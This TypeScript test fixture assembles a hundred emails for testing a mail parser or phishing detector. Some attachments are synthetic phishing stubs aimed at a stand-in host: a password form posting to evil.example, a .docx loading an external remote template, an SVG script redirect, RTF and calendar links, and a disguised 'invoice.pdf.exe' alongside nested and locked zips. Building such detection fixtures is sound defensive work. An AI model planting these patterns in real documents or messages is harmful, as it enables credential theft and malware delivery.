import { readdirSync, readFileSync } from 'node:fs';
import { gzipSync } from 'node:zlib';
import { mailSource } from '../mail/parse/testing/mail-source.ts';
import { lockedZip, zipFile } from '../mail/parse/testing/zip-file.ts';

const folder = new URL('./mails/', import.meta.url);

/** A hundred messages of our own to damage: all that carry files, every kind of file, and plain ones. */
export const hundredMails = (): Uint8Array[] => {
  const written = ['legitimate', 'phishing'].flatMap((kind) =>
    readdirSync(new URL(`${kind}/`, folder))
      .filter((name) => name.endsWith('.eml'))
      .sort()
      .map((name) => readFileSync(new URL(`${kind}/${name}`, folder))),
  );
  const hasFile = (mail: Buffer) => /filename=/i.test(mail.toString('latin1'));
  const others = written.filter((mail) => !hasFile(mail));
  const made = madeMails().map((source) => Buffer.from(source));
  const some = 100 - made.length - (written.length - others.length);
  const spread = Array.from({ length: some }, (_, n) => others[Math.floor((n * others.length) / some)]);
  return [...made, ...written.filter(hasFile), ...spread.flatMap((mail) => mail ?? [])];
};

const page = '<html><body><form action="https://evil.example/"><input type=password></form></body></html>';
const letter = mailSource({ html: `<p>Hello <a href="https://a.example/">there</a></p>${page}` });
const relations =
  '<Relationships><Relationship Id="r1" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>';

/** One for each kind of file that the written messages do not carry. */
const madeMails = (): string[] =>
  [
    { name: 'pages.zip', content: zipFile({ 'a.html': page, 'b/invoice.pdf.exe': 'MZ', 'c.eml': letter }) },
    { name: 'locked.zip', content: lockedZip({ 'secret.html': page }) },
    {
      name: 'deep.zip',
      content: zipFile({ 'one.zip': zipFile({ 'two.zip': zipFile({ 'a.html': page }) }) }),
    },
    { name: 'page.html.gz', content: gzipSync(page) },
    {
      name: 'letter.docx',
      content: zipFile({
        '[Content_Types].xml': '<Types/>',
        'word/document.xml': '<w:document><w:t>Please sign in</w:t></w:document>',
        'word/_rels/document.xml.rels': relations,
        'word/vbaProject.bin': 'Attribute VB_Name',
      }),
    },
    {
      name: 'letter.rtf',
      content:
        '{\\rtf1\\ansi {\\field{\\*\\fldinst HYPERLINK "https://evil.example/"}{\\fldrslt here}}\\u8364?}',
    },
    {
      name: 'invite.ics',
      content:
        'BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Call\r\nDESCRIPTION:Join https://evil.\r\n example/x\r\nEND:VEVENT\r\nEND:VCALENDAR',
    },
    {
      name: 'page.svg',
      content:
        '<svg xmlns="http://www.w3.org/2000/svg"><script>location="https://evil.example"</script></svg>',
    },
    { type: 'message/rfc822', content: letter },
    { name: 'list.rar', content: Buffer.from('526172211a070100f3e182eb0b0105070006010180808000', 'hex') },
  ].map((file) =>
    mailSource({
      headers: [
        'Received: from a by b; Tue, 3 Nov 2026 10:00:00 +0000',
        `Subject: =?utf-8?Q?${file.name ?? 'mail'}_=E2=82=AC?=`,
      ],
      text: 'See the file.\r\nhttps://a.example/x',
      html: letter,
      files: [file],
    }),
  );
